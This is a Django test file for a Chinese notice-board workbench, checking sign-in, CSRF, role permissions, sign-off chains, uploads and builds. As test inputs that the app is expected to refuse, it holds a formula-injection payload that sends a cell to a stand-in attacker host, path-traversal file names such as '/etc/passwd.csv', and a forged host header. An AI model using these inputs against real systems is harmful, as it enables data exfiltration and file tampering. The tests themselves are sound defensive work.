"""The workbench's pages and permissions under Django's test client (issue 21, SPEC §4 `serve`).
Run against SQLite by default, and against PostgreSQL by tests/test_web_pg.py, which runs this file
again with NOTICEBOARD_DATABASE set."""

from __future__ import annotations

import re

import web_support
from web_support import FINANCE, PASSWORD, account, audit_actions, client_for

from noticeboard import desk

OFFICER, ADMIN = desk.OFFICER, desk.ADMIN
workbench, town = web_support.workbench, web_support.town  # the fixtures


def _form_values(page) -> dict[str, str]:
    return {row["spec"].name: row["value"] for row in page.context["rows"]}


# ---------------------------------------------------------------- signing in, and the gate


PAGES = [
    "/",
    "/new/",
    "/new/finance/",
    "/template/finance.xlsx",
    f"/n/{FINANCE}/",
    f"/n/{FINANCE}/edit/",
    f"/n/{FINANCE}/preview/1.png",
    f"/n/{FINANCE}/table/",
    "/build/",
    f"/files/{FINANCE}/{FINANCE}.pdf",
    "/audit/",
]
POSTS = [f"/n/{FINANCE}/upload/", f"/n/{FINANCE}/sign/", f"/n/{FINANCE}/table/cell/", "/build/", "/new/notice/"]


def test_every_page_but_sign_in_sends_a_signed_out_visitor_to_sign_in(town):
    client = client_for()
    for url in PAGES:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/signin/?next="), url
    for url in POSTS:
        response = client.post(url, {"decision": desk.AGREE, "role": "初审"})
        assert response["Location"].startswith("/signin/?next="), url
    assert not (town / "signoffs").exists()
    page = client.get("/signin/")
    assert page.status_code == 200
    assert "用户名" in page.text and "密码" in page.text and "登录" in page.text
    assert client.get("/style.css")["Content-Type"].startswith("text/css")


def test_with_no_account_the_sign_in_page_says_how_to_make_one(town):
    page = client_for().get("/signin/")
    assert "noticeboard user add 名字 --role 管理员 -w" in page.text
    account("王小红", OFFICER)
    assert "noticeboard user add" not in client_for().get("/signin/").text


def test_signing_in_and_out_and_a_failed_sign_in_are_in_the_audit_log(town):
    account("王小红", OFFICER)
    client = client_for()
    assert client.post("/signin/", {"username": "王小红", "password": "wrong-password"}).status_code == 200
    response = client.post("/signin/", {"username": "王小红", "password": PASSWORD})
    assert response.status_code == 302 and response["Location"] == "/"
    assert client.get("/").status_code == 200
    client.post("/signout/")
    assert client.get("/")["Location"].startswith("/signin/")
    assert [a for _, a, _ in audit_actions()] == ["退出", "登录", "登录失败"]


def test_five_failed_sign_ins_lock_the_account_out_with_a_chinese_page(town):
    account("李建国", "审核")
    client = client_for()
    for _ in range(5):
        client.post("/signin/", {"username": "李建国", "password": "not-it-at-all"})
    locked = client.post("/signin/", {"username": "李建国", "password": PASSWORD})
    assert locked.status_code == 429
    assert "暂时不能登录" in locked.text and "15 分钟" in locked.text
    assert client.get("/")["Location"].startswith("/signin/")  # the right password did not get in


def test_a_post_without_a_csrf_token_is_refused_and_changes_nothing(town):
    reviewer = account("王小红", "初审")
    client = client_for(reviewer, enforce_csrf_checks=True)
    response = client.post(f"/n/{FINANCE}/sign/", {"role": "初审", "decision": desk.AGREE, "fingerprint": "0" * 64})
    assert response.status_code == 403
    assert "请求被拒绝" in response.text
    assert not (town / "signoffs").exists()
    assert client_for(enforce_csrf_checks=True).post("/signin/", {"username": "x", "password": "y"}).status_code == 403


def test_pages_carry_security_headers(town):
    response = client_for(account("王小红", OFFICER)).get("/")
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"


# ---------------------------------------------------------------- who may do what


def test_a_reviewer_sees_everything_but_may_not_change_or_build(town):
    client = client_for(account("李建国", "审核"))
    assert client.get("/").status_code == 200
    assert client.get(f"/n/{FINANCE}/").status_code == 200
    assert client.get(f"/n/{FINANCE}/table/").status_code == 200
    before = (town / "notices" / f"{FINANCE}.csv").read_bytes()
    for url in ("/new/", "/new/finance/", f"/n/{FINANCE}/edit/", "/build/", "/audit/"):
        refused = client.get(url)
        assert refused.status_code == 403, url
        assert "没有权限" in refused.text, url
    assert client.post("/build/").status_code == 403
    assert client.post(f"/n/{FINANCE}/table/cell/", {"file": "x", "cell": "C2", "value": "1"}).status_code == 403
    upload = client.post(f"/n/{FINANCE}/upload/", {"table": _file("a.csv", b"x,y\n1,2\n")})
    assert upload.status_code == 403
    assert (town / "notices" / f"{FINANCE}.csv").read_bytes() == before
    assert not (town / "out").exists()


def test_the_audit_log_is_for_the_administrator_only_and_newest_first(town):
    assert client_for(account("王小红", OFFICER)).get("/audit/").status_code == 403
    admin = account("张管理", ADMIN)
    from noticeboard.web import audit

    audit.record("王小红", audit.UPLOAD, FINANCE, "first")
    audit.record("王小红", audit.BUILD, FINANCE, "second")
    page = client_for(admin).get("/audit/")
    assert page.status_code == 200
    assert page.text.index("second") < page.text.index("first")


def test_an_unknown_notice_is_a_chinese_404(town):
    page = client_for(account("王小红", OFFICER)).get("/n/no-such-notice/")
    assert page.status_code == 404
    assert "没有编号为「no-such-notice」的公示" in page.text


def test_a_forged_host_header_gets_a_chinese_400(town):
    page = client_for(account("王小红", OFFICER)).get("/", HTTP_HOST="evil.example")
    assert page.status_code == 400
    assert "请求有误" in page.text and 'lang="zh-Hans"' in page.text and "Bad Request" not in page.text


# ---------------------------------------------------------------- sign-offs


def _sign(client, role: str, decision: str, reason: str = ""):
    page = client.get(f"/n/{FINANCE}/")
    fingerprint = page.context["state"].fingerprint
    return client.post(
        f"/n/{FINANCE}/sign/",
        {"role": role, "decision": decision, "reason": reason, "fingerprint": fingerprint},
        follow=True,
    )


def _chain(client) -> dict[str, str]:
    return {s.role: s.state for s in client.get(f"/n/{FINANCE}/").context["state"].chain}


def test_a_user_without_the_role_cannot_sign_and_nothing_is_recorded(town):
    officer = client_for(account("王小红", OFFICER))
    assert officer.get(f"/n/{FINANCE}/").context["can_sign"] == []
    response = _sign(officer, "初审", desk.AGREE)
    assert "初审" in " ".join(str(m) for m in response.context["messages"])
    assert not (town / "signoffs").exists()
    reviewer = client_for(account("李建国", "审核"))
    _sign(reviewer, "审核", desk.AGREE)  # holds 审核, but 初审 has not agreed yet
    assert not (town / "signoffs").exists()
    assert _chain(reviewer)["审核"] == "waiting"
    assert "签批" not in [a for _, a, _ in audit_actions()]


def test_the_chain_is_signed_in_turn_and_a_changed_notice_needs_it_again(town):
    first = client_for(account("王小红", "初审"))
    page = first.get(f"/n/{FINANCE}/")
    assert page.context["can_sign"] == ["初审"]
    assert 'name="fingerprint"' in page.text and "同意" in page.text and "退回" in page.text
    signed = _sign(first, "初审", desk.AGREE)
    assert "已记录：初审 同意" in signed.text
    assert _chain(first)["初审"] == "signed"
    second = client_for(account("李建国", "审核"))
    returned = _sign(second, "审核", desk.RETURN, "合计数与明细对不上")
    assert "已记录：审核 退回" in returned.text
    notice = second.get(f"/n/{FINANCE}/")
    assert "合计数与明细对不上" in notice.text
    assert {s.role: s.state for s in notice.context["state"].chain}["审核"] == "returned"
    assert ("李建国", "签批", FINANCE) in audit_actions()
    from noticeboard.web.models import AuditEntry

    signed_entry = AuditEntry.objects.filter(user="李建国", action="签批").get()
    fingerprint = notice.context["state"].fingerprint
    assert signed_entry.detail == f"审核：退回（合计数与明细对不上）；内容指纹 {fingerprint}"

    clerk = client_for(account("张文书", OFFICER))
    values = _form_values(clerk.get(f"/n/{FINANCE}/edit/"))
    values["title"] = values["title"] + "（更正）"
    saved = clerk.post(f"/n/{FINANCE}/edit/", values)
    assert saved.status_code == 302 and saved["Location"] == f"/n/{FINANCE}/"
    assert "（更正）" in (town / "notices" / f"{FINANCE}.yaml").read_text(encoding="utf-8")
    chain = _chain(clerk)
    assert chain["初审"] in ("stale", "waiting")
    assert chain["审核"] != "signed"
    assert "需重签" in clerk.get(f"/n/{FINANCE}/").text or chain["初审"] == "waiting"


def test_a_sign_off_on_content_that_changed_since_the_page_was_shown_is_refused(town):
    reviewer = client_for(account("王小红", "初审"))
    fingerprint = reviewer.get(f"/n/{FINANCE}/").context["state"].fingerprint
    path = town / "notices" / f"{FINANCE}.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("display_days: 10", "display_days: 12"), encoding="utf-8")
    response = reviewer.post(
        f"/n/{FINANCE}/sign/", {"role": "初审", "decision": desk.AGREE, "fingerprint": fingerprint}, follow=True
    )
    assert "重新查看" in response.text
    assert _chain(reviewer)["初审"] != "signed"


def test_a_notice_with_errors_has_no_sheets_to_see_so_it_can_be_returned_but_not_agreed_to(town):
    path = town / "notices" / f"{FINANCE}.csv"
    text = path.read_text(encoding="utf-8-sig")
    path.write_text(text.replace("680.99,680.99", "六八零,680.99", 1), encoding="utf-8-sig")
    reviewer = client_for(account("王小红", "初审"))
    page = reviewer.get(f"/n/{FINANCE}/")
    assert page.context["can_sign"] == ["初审"] and not page.context["previews"].images
    assert not page.context["can_agree"]
    assert f'value="{desk.AGREE}"' not in page.text and f'value="{desk.RETURN}"' in page.text
    assert "不能同意" in page.text
    agreed = _sign(reviewer, "初审", desk.AGREE)
    assert "没有预览可看，不能同意" in _messages(agreed)
    assert not (town / "signoffs").exists()
    returned = _sign(reviewer, "初审", desk.RETURN, "本期数写成了汉字")
    assert "已记录：初审 退回" in returned.text
    assert _chain(reviewer)["初审"] == "returned"


def test_every_post_without_a_csrf_token_is_refused_even_for_a_user_holding_every_role(town):
    everyone = account("张管理", ADMIN, OFFICER, "初审", "审核", "保密审查")
    client = client_for(everyone, enforce_csrf_checks=True)
    before = _tree(town)
    fingerprint = client.get(f"/n/{FINANCE}/").context["state"].fingerprint
    csv = (town / "notices" / f"{FINANCE}.csv").read_bytes()
    posts = {
        f"/n/{FINANCE}/upload/": {"table": _file("第一季度.csv", csv)},
        f"/n/{FINANCE}/sign/": {"role": "初审", "decision": desk.AGREE, "fingerprint": fingerprint},
        f"/n/{FINANCE}/table/cell/": {"file": f"notices/{FINANCE}.csv", "cell": "C2", "value": "1"},
        f"/n/{FINANCE}/edit/": {"title": "改了"},
        "/build/": {"id": FINANCE},
        "/new/notice/": {"id": "2026-csrf", "title": "通知", "date": "2026-05-06", "body": "正文"},
        "/signout/": {},
    }
    assert set(posts) >= set(POSTS)
    for url, data in posts.items():
        response = client.post(url, data)
        assert response.status_code == 403 and "请求被拒绝" in response.text, url
    assert _tree(town) == before
    assert client.get("/").status_code == 200  # still signed in: the sign-out was refused too
    assert [a for _, a, _ in audit_actions()] == ["登录"]  # force_login's; nothing the POSTs would record


# ---------------------------------------------------------------- the list, new notices, editing


def test_the_list_shows_every_notice_with_its_status_and_filters_by_board(town):
    client = client_for(account("王小红", OFFICER))
    page = client.get("/")
    assert f'href="/n/{FINANCE}/"' in page.text
    assert "筛选" in page.text and 'href="/new/"' in page.text and "新建公示" in page.text
    rows = page.context["overview"].rows
    assert len(rows) == len(list((town / "notices").glob("*.yaml")))
    village = client.get("/?board=village").context["overview"].rows
    assert village and all(r.board == "village" for r in village)
    assert f'href="/n/{FINANCE}/"' not in client.get("/?board=village").text


def test_a_new_notice_from_the_form_is_written_as_yaml_and_shown(town):
    client = client_for(account("王小红", OFFICER))
    choose = client.get("/new/")
    assert 'href="/new/notice/"' in choose.text and 'href="/new/finance/"' in choose.text
    form = client.get("/new/notice/")
    assert 'type="date"' in form.text and "<label" in form.text and "保存" in form.text
    assert 'href="/template/notice.xlsx"' in form.text or "下载数据表模板" in form.text
    values = _form_values(form)
    values.update(
        {"id": "2026-water-notice", "title": "关于停水的通知", "date": "2026-05-06", "body": "因管道检修，停水一天。"}
    )
    saved = client.post("/new/notice/", values)
    assert saved.status_code == 302 and saved["Location"] == "/n/2026-water-notice/"
    written = (town / "notices" / "2026-water-notice.yaml").read_text(encoding="utf-8")
    assert "关于停水的通知" in written
    assert ("王小红", "新建公示", "2026-water-notice") in audit_actions()
    assert client.get("/n/2026-water-notice/").status_code == 200


def test_a_bad_value_is_shown_beside_its_field(town):
    client = client_for(account("王小红", OFFICER))
    values = _form_values(client.get("/new/notice/"))
    values.update({"id": "2026-bad-date", "title": "通知", "date": "2026-02-30", "body": "正文"})
    saved = client.post("/new/notice/", values)
    assert saved["Location"].startswith("/n/2026-bad-date/edit/")  # saved as typed, and back to the form
    page = client.get(saved["Location"])
    beside = {row["spec"].name: row["problems"] for row in page.context["rows"]}
    assert beside["date"] and all(p.is_error for p in beside["date"])
    assert "2026-02-30" in str(beside["date"][0]) or "日期" in str(beside["date"][0])
    assert 'aria-invalid="true"' in page.text


def test_a_new_notice_with_an_id_that_exists_is_refused_on_the_form(town):
    client = client_for(account("王小红", OFFICER))
    values = _form_values(client.get("/new/finance/"))
    values.update({"id": FINANCE, "title": "重复"})
    before = (town / "notices" / f"{FINANCE}.yaml").read_bytes()
    page = client.post("/new/finance/", values)
    assert page.status_code == 200
    assert page.context["has_errors"] and "没有保存" in page.text
    assert (town / "notices" / f"{FINANCE}.yaml").read_bytes() == before


def test_an_empty_or_partial_edit_post_changes_only_the_fields_it_carries(town):
    client = client_for(account("王小红", OFFICER))
    path = town / "notices" / f"{FINANCE}.yaml"
    before = path.read_bytes()
    client.post(f"/n/{FINANCE}/edit/", {})
    assert path.read_bytes() == before  # byte for byte: no key removed, nothing rewritten
    client.post(f"/n/{FINANCE}/edit/", {"title": "改过的标题"})
    after = path.read_text(encoding="utf-8-sig")
    assert "title: 改过的标题" in after
    assert after.replace("title: 改过的标题", "title: 两城镇2026年第一季度财政收支情况公示") == before.decode(
        "utf-8-sig"
    )


def test_the_whole_edit_form_still_clears_a_field_and_a_boolean(town):
    client = client_for(account("王小红", OFFICER))
    notice = "2026-election-notice"
    path = town / "notices" / f"{notice}.yaml"
    values = _form_values(client.get(f"/n/{notice}/edit/"))
    client.post(f"/n/{notice}/edit/", {**values, "seal": "true", "hotline": "0531-12345678"})
    text = path.read_text(encoding="utf-8")
    assert "\nseal: true" in text and "\nhotline: 0531-12345678" in text
    values = _form_values(client.get(f"/n/{notice}/edit/"))
    assert values["seal"] == "true"
    client.post(f"/n/{notice}/edit/", {**values, "seal": "", "hotline": ""})  # 默认 and an emptied field
    text = path.read_text(encoding="utf-8")
    assert "\nseal:" not in text and "\nhotline:" not in text


def test_a_new_notice_named_like_a_windows_device_is_refused_on_the_form(town):
    client = client_for(account("王小红", OFFICER))
    values = _form_values(client.get("/new/guide/"))
    values.update({"id": "con", "title": "指南"})
    page = client.post("/new/guide/", values)
    assert page.status_code == 200 and page.context["has_errors"]
    assert "编号「con」是 Windows 的保留名字" in page.text
    assert not list((town / "notices").glob("con.*"))


def test_the_template_download_is_an_xlsx(town):
    response = client_for(account("王小红", OFFICER)).get("/template/finance.xlsx")
    assert response.status_code == 200
    assert response.content[:2] == b"PK"
    assert "attachment" in response["Content-Disposition"]


# ---------------------------------------------------------------- uploads and the table


def _file(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


def _notices(root) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((root / "notices").iterdir())}


def _messages(response) -> str:
    return " ".join(str(m) for m in response.context["messages"])


def test_an_upload_too_large_or_not_a_table_is_refused_with_a_message_and_writes_nothing(town):
    client = client_for(account("王小红", OFFICER))
    before = _notices(town)
    big = client.post(
        f"/n/{FINANCE}/upload/", {"table": _file("big.csv", b"a," * (desk.MAX_UPLOAD_BYTES // 2 + 1))}, follow=True
    )
    assert "20" in _messages(big) or "大" in _messages(big)
    pdf = client.post(f"/n/{FINANCE}/upload/", {"table": _file("report.xlsx", b"%PDF-1.7 not a workbook")}, follow=True)
    assert _messages(pdf)
    exe = client.post(f"/n/{FINANCE}/upload/", {"table": _file("tool.exe", b"MZ")}, follow=True)
    assert _messages(exe)
    assert _notices(town) == before
    assert "上传数据表" not in [a for _, a, _ in audit_actions()]


def _raw_upload_response(client, url: str, filename: str, data: bytes):
    """The test client strips a path from a file name itself; a browser or a script may not."""
    boundary = "----noticeboard-test"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="table"; filename="{filename}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return client.generic("POST", url, body, content_type=f"multipart/form-data; boundary={boundary}")


def _raw_upload(client, url: str, filename: str, data: bytes):
    sent = _raw_upload_response(client, url, filename, data)
    assert sent.status_code == 302, sent.status_code
    return client.get(sent["Location"])


def _tree(root) -> dict[str, bytes]:
    """Every file of the workspace and beside it, but the workbench's own database and scratch."""
    return {
        str(p.relative_to(root.parent)): p.read_bytes()
        for p in sorted(root.parent.rglob("*"))
        if p.is_file() and ".workbench" not in p.parts
    }


def test_a_path_in_an_uploaded_name_is_refused_with_a_message_and_writes_nothing(town):
    client = client_for(account("王小红", OFFICER))
    before = _tree(town)
    csv = (town / "notices" / f"{FINANCE}.csv").read_bytes()
    for name, data in (
        ("../../noticeboard.yaml", b"issuer: evil\n"),
        ("..\\..\\evil.csv", csv),
        ("C:\\Users\\x\\表.xlsx", b"PK"),
        ("/etc/passwd.csv", csv),
        ("..", csv),
    ):
        response = _raw_upload(client, f"/n/{FINANCE}/upload/", name, data)
        assert "文件名里不能有路径" in response.text, name
        assert "已上传" not in response.text, name
        assert _tree(town) == before, name
    assert "上传数据表" not in [a for _, a, _ in audit_actions()]


def test_a_chinese_file_name_sent_by_a_browser_is_accepted(town):
    client = client_for(account("王小红", OFFICER))
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["x"])
    import io

    out = io.BytesIO()
    book.save(out)
    response = _raw_upload(client, f"/n/{FINANCE}/upload/", "填好的.xlsx", out.getvalue())
    assert "已上传，保存为 " + f"{FINANCE}.xlsx" in response.text
    assert (town / "notices" / f"{FINANCE}.xlsx").read_bytes() == out.getvalue()
    assert ("王小红", "上传数据表", FINANCE) in audit_actions()


def test_the_server_refuses_a_body_far_past_the_upload_limit_before_writing_it(town):
    """waitress would otherwise spool up to 1 GB to disk before any view (or sign-in) sees it."""
    from noticeboard.web.server import MAX_BODY, listen

    server = listen("127.0.0.1", 0)
    try:
        assert server.adj.max_request_body_size == MAX_BODY
        assert desk.MAX_UPLOAD_BYTES * 2 < MAX_BODY < 1024 * 1024 * 1024
    finally:
        server.close()


def test_an_upload_of_25_mb_gets_the_workbench_message_not_a_django_error(town):
    client = client_for(account("王小红", OFFICER))
    before = _notices(town)
    response = client.post(
        f"/n/{FINANCE}/upload/", {"table": _file("大表.xlsx", b"PK" + b"0" * (25 * 1024 * 1024))}, follow=True
    )
    assert response.status_code == 200
    assert f"文件太大，超过了最大 {desk.MAX_UPLOAD_BYTES // (1024 * 1024)} MB" in response.text
    assert _notices(town) == before


def test_an_upload_without_a_csrf_token_is_refused_and_writes_nothing(town):
    client = client_for(account("王小红", OFFICER), enforce_csrf_checks=True)
    before = _tree(town)
    csv = (town / "notices" / f"{FINANCE}.csv").read_bytes()
    response = client.post(f"/n/{FINANCE}/upload/", {"table": _file("第一季度.csv", csv)})
    assert response.status_code == 403 and "请求被拒绝" in response.text
    raw = _raw_upload_response(client, f"/n/{FINANCE}/upload/", "../../noticeboard.yaml", b"issuer: evil\n")
    assert raw.status_code == 403 and "请求被拒绝" in raw.text
    assert _tree(town) == before
    assert "上传数据表" not in [a for _, a, _ in audit_actions()]


def test_an_upload_with_the_csrf_token_of_the_page_is_accepted(town):
    client = client_for(account("王小红", OFFICER), enforce_csrf_checks=True)
    page = client.get(f"/n/{FINANCE}/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)[1]
    csv = (town / "notices" / f"{FINANCE}.csv").read_bytes()
    response = client.post(
        f"/n/{FINANCE}/upload/", {"csrfmiddlewaretoken": token, "table": _file("第一季度.csv", csv)}, follow=True
    )
    assert "已上传" in _messages(response)


def test_an_upload_is_stored_for_its_notice_and_audited(town):
    client = client_for(account("王小红", OFFICER))
    data = (town / "notices" / f"{FINANCE}.csv").read_bytes()
    response = client.post(f"/n/{FINANCE}/upload/", {"table": _file("第一季度.csv", data)}, follow=True)
    assert "已上传" in _messages(response)
    assert ("王小红", "上传数据表", FINANCE) in audit_actions()


def test_a_bad_cell_is_red_in_the_table_and_fixed_there(town):
    path = town / "notices" / f"{FINANCE}.csv"
    text = path.read_text(encoding="utf-8-sig")
    path.write_text(text.replace("680.99,680.99", "六八零,680.99", 1), encoding="utf-8-sig")
    client = client_for(account("王小红", OFFICER))
    page = client.get(f"/n/{FINANCE}/table/")
    assert 'aria-invalid="true"' in page.text and 'class="marked' in page.text
    ref = re.search(r'<td id="([A-Z]+\d+)" class="marked', page.text)[1]
    grid = page.context["grids"][0]["grid"]
    assert "改正" in page.text and 'name="value"' in page.text
    # the fix form is a card outside the table's scroll box, and the red cell links to it
    card = re.search(rf'<li id="fix-{ref}".*?</li>', page.text, re.S)[0]
    assert f'name="cell" value="{ref}"' in card and "改正" in card and "现在是：「六八零」" in card
    assert f'<a href="#fix-{ref}">六八零</a>' in page.text
    assert 'name="value"' not in page.text[page.text.index('<table class="sheet">') :]
    fixed = client.post(
        f"/n/{FINANCE}/table/cell/",
        {"file": grid.file, "sheet": grid.sheet or "", "cell": ref, "value": "680.99"},
        follow=True,
    )
    assert "已改正" in _messages(fixed)
    assert f'<td id="{ref}" class="marked' not in client.get(f"/n/{FINANCE}/table/").text
    assert "680.99,680.99" in path.read_text(encoding="utf-8-sig")
    assert ("王小红", "改正单元格", FINANCE) in audit_actions()


def test_a_masked_cell_is_not_offered_as_its_own_value_in_the_fix_form(town):
    import openpyxl

    path = town / "notices" / "2026q2-dibao.xlsx"
    book = openpyxl.load_workbook(path)
    book["低保对象"]["E3"] = "370831194506134999"  # a wrong check digit: marked, and shown masked
    book.save(path)
    page = client_for(account("王小红", OFFICER)).get("/n/2026q2-dibao/table/")
    card = re.search(r'<li id="fix-E3".*?</li>', page.text, re.S)[0]
    assert "现在是：「370*************99」" in card and "请填写完整的值" in card
    field = re.search(r'<input name="value"[^>]*>', card)[0]
    assert 'value=""' in field and "required" in field and "*" not in field


def test_a_value_excel_would_run_or_a_cell_out_of_range_is_refused_on_the_table_page(town):
    path = town / "notices" / f"{FINANCE}.csv"
    before = path.read_bytes()
    client = client_for(account("王小红", OFFICER))
    for ref, value, says in (
        ("D2", '=HYPERLINK("http://evil.example/?"&C5,"点这里")', "单元格不能以 =、+、-、@ 开头"),
        ("A200000", "1", "超出了表格"),
    ):
        page = client.post(
            f"/n/{FINANCE}/table/cell/", {"file": f"notices/{FINANCE}.csv", "cell": ref, "value": value}, follow=True
        )
        assert says in _messages(page), ref
    assert path.read_bytes() == before


# ---------------------------------------------------------------- previews, build, downloads


def test_every_sheet_has_a_preview_image(town):
    client = client_for(account("李建国", "审核"))
    page = client.get(f"/n/{FINANCE}/")
    sheets = list(page.context["sheets"])
    assert sheets and f'src="/n/{FINANCE}/preview/1.png?v=' in page.text
    image = client.get(f"/n/{FINANCE}/preview/1.png")
    assert image["Content-Type"] == "image/png"
    assert b"".join(image.streaming_content)[:8] == b"\x89PNG\r\n\x1a\n"
    assert client.get(f"/n/{FINANCE}/preview/{len(sheets) + 1}.png").status_code == 404


def test_the_final_build_refuses_an_unsigned_notice_and_serves_what_it_made(town):
    client = client_for(account("王小红", OFFICER))
    refused = client.post("/build/", {"id": FINANCE})
    assert FINANCE in refused.context["result"].refused
    assert "未生成" in refused.text
    signed = "2026-org"
    built = client.post("/build/", {"id": signed})
    assert built.context["result"].written
    assert ("王小红", "正式生成", signed) in audit_actions()
    items = desk.downloads(town, signed)
    assert items
    name = items[0].path.name
    assert f'href="/files/{signed}/{name}"' in built.text
    served = client.get(f"/files/{signed}/{name}")
    assert b"".join(served.streaming_content) == items[0].path.read_bytes()
    assert client.get(f"/files/{signed}/..%2F..%2Fnoticeboard.yaml").status_code == 404
    assert client.get(f"/files/{signed}/noticeboard.yaml").status_code == 404


# ---------------------------------------------------------------- settings


def test_the_database_is_the_one_configured(town):
    import os

    from django.db import connection

    assert connection.vendor == ("postgresql" if os.environ.get("NOTICEBOARD_DATABASE") else "sqlite")


def test_a_postgresql_address_is_read_without_a_password():
    from noticeboard.web.settings import WorkbenchError, postgres

    entry = postgres("postgresql://gongkai@db.county.example:5433/lcz", "noticeboard.yaml")
    assert (entry["ENGINE"], entry["USER"], entry["HOST"], entry["PORT"], entry["NAME"]) == (
        "django.db.backends.postgresql",
        "gongkai",
        "db.county.example",
        "5433",
        "lcz",
    )
    assert entry["PASSWORD"] == ""  # libpq: PGPASSWORD or .pgpass
    for bad, said in (
        ("postgresql://gongkai:secret@db/lcz", "不要写密码"),
        ("postgresql://gongkai@db/", "缺少库名"),
        ("mysql://gongkai@db/lcz", "postgresql://"),
    ):
        try:
            postgres(bad, "NOTICEBOARD_DATABASE")
        except WorkbenchError as error:
            assert said in str(error) and str(error).startswith("NOTICEBOARD_DATABASE: 错误: ")
        else:
            raise AssertionError(bad)


def test_only_a_loopback_address_is_loopback():
    from noticeboard.web.settings import is_loopback

    assert all(map(is_loopback, ["127.0.0.1", "localhost", "::1", "[::1]", "127.0.0.2"]))
    assert not any(map(is_loopback, ["0.0.0.0", "192.168.1.10", "::", "gk.example.cn"]))


def test_saving_the_edit_form_unchanged_leaves_the_file_and_its_signoffs_alone(town):
    """2026-assets has no orientation: line; the form shows 竖版 for it, and posting that back is no change."""
    notice_id = "2026-assets"
    path = town / "notices" / f"{notice_id}.yaml"
    before = path.read_bytes()
    assert b"orientation" not in before
    clerk = client_for(account("张文书", OFFICER))
    fingerprint = desk.notice_state(town, notice_id).fingerprint
    page = clerk.get(f"/n/{notice_id}/edit/")
    values = _form_values(page)
    assert values["orientation"] == "portrait"  # shown at its default
    saved = clerk.post(f"/n/{notice_id}/edit/", {**values, "base": page.context["base"]}, follow=True)
    assert "没有改动" in saved.text
    assert path.read_bytes() == before
    assert desk.notice_state(town, notice_id).fingerprint == fingerprint
    assert ("张文书", "修改", notice_id) not in audit_actions()


def test_of_two_windows_editing_one_notice_the_later_save_is_refused_not_lost(town):
    path = town / "notices" / f"{FINANCE}.yaml"
    clerk = client_for(account("张文书", OFFICER))
    first = clerk.get(f"/n/{FINANCE}/edit/")
    second = clerk.get(f"/n/{FINANCE}/edit/")
    values = _form_values(first)
    title = values["title"] + "（更正）"
    clerk.post(f"/n/{FINANCE}/edit/", {**values, "title": title, "base": first.context["base"]})
    assert title in path.read_text(encoding="utf-8")
    later = _form_values(second)
    refused = clerk.post(f"/n/{FINANCE}/edit/", {**later, "hotline": "0537-7654321", "base": second.context["base"]})
    assert refused.status_code == 200 and "在您打开表单之后被改过" in refused.text
    text = path.read_text(encoding="utf-8")
    assert title in text and "0537-7654321" not in text  # the first save stands; the second wrote nothing


def test_the_final_build_can_tile_posters_for_the_office_printer(town):
    client = client_for(account("王小红", OFFICER))
    page = client.get("/build/")
    assert 'name="tile"' in page.text and '<option value="A4">' in page.text
    built = client.post("/build/", {"id": "2026-org", "tile": "A4"})
    assert built.context["result"].written
    labels = [d.label for d in desk.downloads(town, "2026-org")]
    assert "拼贴打印 PDF" in labels
    from noticeboard.web.models import AuditEntry

    assert "拼贴到 A4" in AuditEntry.objects.filter(action="正式生成").latest("id").detail
    ignored = client.post("/build/", {"id": "2026-org", "tile": "../A0"})  # only the two sheets are taken
    assert ignored.context["result"] is not None


def test_a_problem_about_a_key_the_file_lacks_sits_beside_that_field(town):
    from noticeboard.problems import Where, error

    at_id = Where(f"notices/{FINANCE}.yaml", 2)
    assert desk.field_of(error(at_id, "没有写「display_days」（公示天数）。"), town, FINANCE) == "display_days"
    id_line = Where(f"notices/{FINANCE}.yaml", 1)  # where the gate says it when the file has no reviews
    assert desk.field_of(error(id_line, "缺少「初审」签批，不能正式印发。"), town, FINANCE) is None
    assert desk.field_of(error(at_id, "编号「abc」不对"), town, FINANCE) != "abc"  # a quoted value, not a key


def test_a_notice_without_a_table_offers_no_upload_and_a_missing_table_is_said_on_the_table_page(town):
    clerk = client_for(account("张文书", OFFICER))
    guide = clerk.get("/n/guide-dibao/")
    assert "上传数据表" not in guide.text and 'name="table"' not in guide.text
    assert "上传数据表" in clerk.get(f"/n/{FINANCE}/").text
    path = town / "notices" / f"{FINANCE}.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("data: 2026q1-finance.csv", "data: missing.xlsx"), "utf-8")
    table = clerk.get(f"/n/{FINANCE}/table/")
    assert "不在某个格子上的问题" in table.text and "missing.xlsx" in table.text
    assert "这份公示没有数据表" not in table.text


def test_a_guides_steps_are_a_field_of_its_form(town):
    clerk = client_for(account("张文书", OFFICER))
    page = clerk.get("/n/guide-dibao/edit/")
    assert 'name="steps"' in page.text and 'class="yaml"' in page.text
    values = _form_values(page)
    values["steps"] += "\n- {step: 公示结果, who: 村委会, days: 7}"
    saved = clerk.post("/n/guide-dibao/edit/", {**values, "base": page.context["base"]})
    assert saved.status_code == 302
    text = (town / "notices" / "guide-dibao.yaml").read_text(encoding="utf-8")
    assert "  - {step: 公示结果, who: 村委会, days: 7}" in text
    assert "  - {step: 提交申请材料" in text  # the rest kept, indented as before
